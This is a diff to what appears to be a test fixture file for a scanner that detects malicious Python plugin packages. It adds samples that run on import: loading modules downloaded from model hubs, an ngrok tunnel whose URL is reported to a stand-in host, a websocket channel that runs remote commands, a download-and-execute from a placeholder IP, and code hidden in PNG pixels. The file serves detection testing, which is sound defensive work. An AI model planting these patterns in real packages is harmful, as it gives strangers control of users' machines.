@@ -89,6 +89,37 @@ const REPOSITORIES: readonly ToFind[] = [
   }],
 ];
 
+const COMMUNITY: readonly ToFind[] = [
+  ['runs_downloaded_code', 'modules that are found in folders', {
+    '__init__.py': 'from . import filters\nfilters.load()\n',
+    'places.py': lines(
+      'import os',
+      'from huggingface_hub import snapshot_download',
+      'OWN = os.path.join(os.path.dirname(__file__), "own")',
+      'class Places:',
+      '    def __iter__(self):',
+      '        yield OWN',
+      '        yield self.shared()',
+      '    def shared(self):',
+      '        return snapshot_download("studio/filters", repo_type="dataset")',
+    ),
+    'filters.py': lines(
+      'import pkgutil',
+      'from .places import Places',
+      'def load():',
+      '    for folder in [Places().shared()]:',
+      '        for found in pkgutil.iter_modules([folder]):',
+      '            found.module_finder.find_spec(found.name).loader.load_module(found.name)',
+    ),
+  }],
+  ['runs_downloaded_code', 'modules that are found one by one', lines(
+    'import os, importlib.machinery, kagglehub',
+    'root = kagglehub.dataset_download("studio/filters")',
+    'for name in os.listdir(root):',
+    '    importlib.machinery.SourceFileLoader(name[:-3], os.path.join(root, name)).load_module()',
+  )],
+];
+
 const NOT_REPOSITORIES: readonly NotToFind[] = [
   ['weights of a hub', lines(
     'import os, sys, torch',
@@ -620,6 +651,110 @@ const TUNNELS: readonly ToFind[] = [
   )],
 ];
 
+const ROOMS: readonly ToFind[] = [
+  ['opens_tunnel', 'a tunnel by a connection to a named host', {
+    '__init__.py': 'from .view import View\nView().begin()\n',
+    'view.py': lines(
+      'import threading',
+      'from .room import Room',
+      'class View(threading.Thread):',
+      '    def begin(self):',
+      '        self.start()',
+      '    def run(self):',
+      '        from pyngrok import ngrok',
+      '        link = ngrok.connect(8188)',
+      '        Room("rooms.example.net").tell(str(link.public_url))',
+    ),
+    'room.py': lines(
+      'import http.client',
+      'class Room:',
+      '    def __init__(self, host):',
+      '        self.host = host',
+      '    def tell(self, text):',
+      '        line = http.client.HTTPSConnection(self.host)',
+      '        line.request("PUT", "/x", text)',
+    ),
+  }],
+  ['runs_received_commands', 'own functions, or any', {
+    '__init__.py': 'from .link import Link\nLink().start()\n',
+    'link.py': lines(
+      'import json, threading, websocket',
+      'from .acts import Acts',
+      'class Link(threading.Thread):',
+      '    def run(self):',
+      '        line = websocket.create_connection("wss://board.example.net")',
+      '        acts = Acts()',
+      '        while True:',
+      '            acts.take(**json.loads(line.recv()))',
+    ),
+    'acts.py': lines(
+      'import importlib',
+      'class Acts:',
+      '    table = {}',
+      '    def take(self, name, values=()):',
+      '        act = self.table.get(name)',
+      '        if act is None:',
+      '            module, _, member = name.partition(":")',
+      '            act = getattr(importlib.import_module(module), member)',
+      '        return act(*values)',
+    ),
+  }],
+  ['starts_downloaded_program', 'a program that a thread fetches', {
+    '__init__.py': 'from .probe import Probe\n',
+    'probe.py': lines(
+      'import asyncio',
+      'from .tools import tool',
+      'async def ask(*words):',
+      '    loop = asyncio.get_running_loop()',
+      '    program = await loop.run_in_executor(None, tool, "probe")',
+      '    return await asyncio.create_subprocess_exec(program, *words)',
+      'class Probe:',
+      '    def run(self, video):',
+      '        return asyncio.run(ask("-i", video))',
+    ),
+    'tools.py': lines(
+      'import os, tempfile, shutil',
+      'from urllib import request',
+      'def tool(name):',
+      '    place = os.path.join(tempfile.gettempdir(), name)',
+      '    if not os.path.exists(place):',
+      '        with request.urlopen("http://198.51.100.7/" + name) as r, open(place, "wb") as f:',
+      '            shutil.copyfileobj(r, f)',
+      '        os.chmod(place, 0o700)',
+      '    return shutil.which(place) or place',
+    ),
+  }],
+  ['runs_hidden_code', 'pixels that an object keeps for an interpreter', {
+    '__init__.py': 'from .cache import CACHE\nCACHE.open()\n',
+    'cache.py': lines(
+      'from PIL import Image',
+      'from .bits import text_of',
+      'class Cache:',
+      '    def __init__(self):',
+      '        self.picture = Image.open("empty.png")',
+      '    def open(self):',
+      '        from .steps import Steps',
+      '        Steps(text_of(self.picture)).go()',
+      'CACHE = Cache()',
+    ),
+    'bits.py': lines(
+      'import numpy as np',
+      'def text_of(picture):',
+      '    return np.packbits(np.asarray(picture).ravel() & 1).tobytes().decode("latin-1")',
+    ),
+    'steps.py': lines(
+      'import code',
+      'class Steps(code.InteractiveConsole):',
+      '    def __init__(self, steps):',
+      '        super().__init__()',
+      '        self.steps = steps',
+      '    def go(self):',
+      '        for step in self.steps.splitlines():',
+      '            super().push(step)',
+    ),
+  }],
+];
+
 const NOT_TUNNELS: readonly NotToFind[] = [
   ['a tunnel that is shown', lines(
     'from pyngrok import ngrok',
@@ -637,7 +772,7 @@ const NOT_TUNNELS: readonly NotToFind[] = [
 ];
 
 export const FETCHED_TO_FIND: readonly ToFind[] = [
-  ...REPOSITORIES, ...HUBS, ...UPDATES, ...PROGRAMS, ...MINERS, ...PIXELS, ...MESSAGES, ...TUNNELS,
+  ...REPOSITORIES, ...COMMUNITY, ...HUBS, ...UPDATES, ...PROGRAMS, ...MINERS, ...PIXELS, ...MESSAGES, ...TUNNELS, ...ROOMS,
 ];
 export const FETCHED_NOT_TO_FIND: readonly NotToFind[] = [
   ...NOT_REPOSITORIES, ...NOT_HUBS, ...NOT_UPDATES, ...NOT_PROGRAMS, ...NOT_MINERS, ...NOT_PIXELS, ...NOT_MESSAGES, ...NOT_TUNNELS,
